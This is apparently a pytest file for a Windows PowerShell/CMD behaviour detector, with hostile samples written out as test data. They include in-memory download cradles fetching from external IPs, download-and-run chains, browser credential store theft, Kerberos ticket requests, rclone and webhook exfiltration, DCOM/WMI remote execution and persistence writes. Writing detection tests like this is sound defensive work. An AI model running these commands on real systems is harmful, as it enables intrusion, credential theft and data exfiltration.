"""Windows behaviours read from commands: what a program does with which arguments, whatever
the spelling, the quoting or the variable an argument came from."""

from __future__ import annotations

import pytest

from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score

PS = ArtifactType.POWERSHELL
CMD = ArtifactType.CMD
SUSPICIOUS = 300
CRADLE = "heur.windows.download_cradle_executed"


@pytest.mark.parametrize("script", [
    # the method name held in a variable and the type name built by concatenation (issue 14)
    "$a='Down'+'loadStr'+'ing';$w=New-Object ('Net.'+'WebC'+'lient');iex ($w.$a('http://91.215.85.17/s'))",
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')",
    "Invoke-RestMethod http://198.51.100.4/a.ps1 | Invoke-Expression",
    "& ([scriptblock]::Create((iwr -UseBasicParsing https://paste.example.net/raw/x).Content))",
])
def test_downloaded_text_run_in_memory_is_suspicious_in_every_form(script: str) -> None:
    assert CRADLE in ids(script, PS)
    assert score(script, PS) >= SUSPICIOUS


def test_a_vendor_installer_through_iex_is_not_the_strong_cradle() -> None:
    script = "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
    assert CRADLE not in ids(script, PS)


def test_a_download_that_is_only_printed_is_not_executed() -> None:
    assert CRADLE not in ids("$v = (New-Object Net.WebClient).DownloadString('https://api.example.com/v'); Write-Host $v", PS)


@pytest.mark.parametrize("script", [
    '(New-Object System.Net.WebClient).DownloadFile("http://203.0.113.7/a.exe","$env:TEMP\\a.exe"); '
    'Start-Process "$env:TEMP\\a.exe"',
    "Invoke-WebRequest -Uri https://files.example.net/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
    "iwr https://files.example.net/x.exe -OutFile C:\\Users\\Public\\x.exe\nsaps C:\\Users\\Public\\x.exe",
])
def test_a_program_downloaded_into_a_user_folder_and_started_is_suspicious(script: str) -> None:
    assert "heur.windows.download_run_user_folder" in ids(script, PS)
    assert score(script, PS) >= SUSPICIOUS


@pytest.mark.parametrize(("script", "finding"), [
    ('Copy-Item a.vbs "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"',
     "heur.windows.startup_folder_write"),
    ("$s = (New-Object -ComObject WScript.Shell).CreateShortcut(\"$home\\AppData\\Roaming\\Microsoft\\Windows\\"
     "Start Menu\\Programs\\Startup\\x.lnk\")", "heur.windows.startup_folder_write"),
    ('Add-Content $profile -Value "Start-Process C:\\Users\\Public\\a.exe"', "heur.windows.powershell_profile_code"),
    ('Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" -Destination $env:TEMP',
     "heur.windows.browser_secret_store"),
    ("Add-Type -AssemblyName System.IdentityModel; New-Object "
     "System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'HTTP/web01'",
     "heur.windows.kerberos_ticket_request"),
    ("Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd", "heur.windows.laps_password_read"),
    ('Start-Process "C:\\Users\\Public\\AnyDesk.exe"', "heur.windows.remote_access_tool"),
    ('Start-Process "shell:AppsFolder\\MicrosoftCorporationII.QuickAssist_8wekyb3d8bbwe!App"',
     "heur.windows.remote_access_tool"),
    ("Invoke-RestMethod -Uri https://discord.com/api/webhooks/1/abc -Method Post -Body $b",
     "heur.windows.webhook_upload"),
    ('[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.5")).Document.ActiveView.'
     'ExecuteShellCommand("cmd.exe", $null, "/c calc", "7")', "heur.windows.dcom_execution"),
    ("New-PSDrive -Name g -PSProvider FileSystem -Root \\\\fileserver\\C$", "heur.windows.admin_share_mapped"),
    ("New-InboxRule -Name x -SubjectContainsWords invoice -DeleteMessage $true", "heur.windows.mailbox_hiding_rule"),
    ("rclone copy C:\\Users\\Public\\loot remote:bucket", "heur.windows.rclone_transfer"),
    (".\\rclone.exe copy --max-size 1700k C:\\data mega1:dump -v", "heur.windows.rclone_transfer"),
    ('Copy-Item "$env:APPDATA\\Mozilla\\Firefox\\Profiles\\" -Destination C:\\x -Recurse',
     "heur.windows.browser_secret_store"),
    ('copy-item "$env:windir\\System32\\cmd.exe" -destination "$env:allusersprofile\\cmd.exe"',
     "heur.windows.system_binary_name_elsewhere"),
    ('Start-Process -FilePath "$Env:windir\\Temp\\svchost.exe"', "heur.windows.system_binary_name_elsewhere"),
    ("Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc.exe'}",
     "heur.windows.wmi_process_create"),
    ('netsh advfirewall firewall add rule name="x" dir=in action=allow program="C:\\Users\\bob\\a.exe" enable=yes',
     "heur.windows.firewall_allows_user_program"),
    (".\\kerbrute.exe userenum -d corp.example users.txt", "heur.windows.offensive_tool_run"),
    ('Import-Module "C:\\tools\\PowerView.ps1"', "heur.windows.offensive_tool_run"),
    ("evil-winrm -i 10.0.0.5 -u administrator -p x", "heur.windows.offensive_tool_run"),
    ("Copy-Item .\\e.cmd -Destination C:\\Windows\\Setup\\Scripts\\ErrorHandler.cmd", "heur.windows.autostart_file_write"),
    ('Set-Content -Path "$sp\\site-packages\\hook.pth" -Value "import os"', "heur.windows.autostart_file_write"),
])
def test_each_behaviour_is_suspicious_alone(script: str, finding: str) -> None:
    assert finding in ids(script, PS)
    assert score(script, PS) >= SUSPICIOUS


@pytest.mark.parametrize("script", [
    "Get-ChildItem \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\"",
    "Add-Content $profile -Value 'Import-Module posh-git'",
    "New-PSDrive -Name g -PSProvider FileSystem -Root \\\\localhost\\c$\\Windows",
    "Get-Content -Path a.txt -Stream Zone.Identifier",
    "Write-Host 'Clear-EventLog and KerberosRequestorSecurityToken are words here'",
    "whoami\nipconfig /all",
    "Start-Process -FilePath TestDrive:\\cmd.exe -PassThru",
    'Start-Process "$env:windir\\System32\\cmd.exe"',
    "netsh advfirewall firewall add rule name=web dir=in action=allow protocol=TCP localport=443",
    "rclone copy C:\\data D:\\backup",
    "Import-Module ActiveDirectory; Get-Command kerbrute -ErrorAction Ignore",
    "mofcomp webadministration.mof",  # a WMI provider installed: what the MOF holds decides
])
def test_reads_listings_and_mentions_are_not_the_behaviour(script: str) -> None:
    assert score(script, PS) < SUSPICIOUS


def test_a_root_certificate_is_recorded_but_weak_alone() -> None:
    script = 'Move-Item -Path $cert.PSPath -Destination "Cert:\\LocalMachine\\Root"'
    assert "heur.windows.root_certificate_added" in ids(script, PS)
    assert score(script, PS) < SUSPICIOUS


def test_a_burst_of_discovery_commands_is_suspicious_and_a_few_are_not() -> None:
    burst = "whoami /all\nnet user\nnet localgroup administrators\nnltest /dclist:\nipconfig /all\nsysteminfo\nquser"
    assert "heur.windows.discovery_burst" in ids(burst, CMD)
    assert "heur.windows.discovery_burst" not in ids("whoami\nhostname\nipconfig /all", CMD)


def test_the_argument_rules_asked_about_a_program_are_every_rule_that_could_match_it_in_order() -> None:
    from inspector.analyzers.heuristics.windows_commands import ARGUMENT_RULES, argument_rules_for

    for name in ("copy-item", "sdbinst", "rclone", "no-such-program"):
        assert argument_rules_for(name) == tuple(r for r in ARGUMENT_RULES if r.programs is None or name in r.programs)
    assert argument_rules_for("no-such-program") == tuple(r for r in ARGUMENT_RULES if r.programs is None)
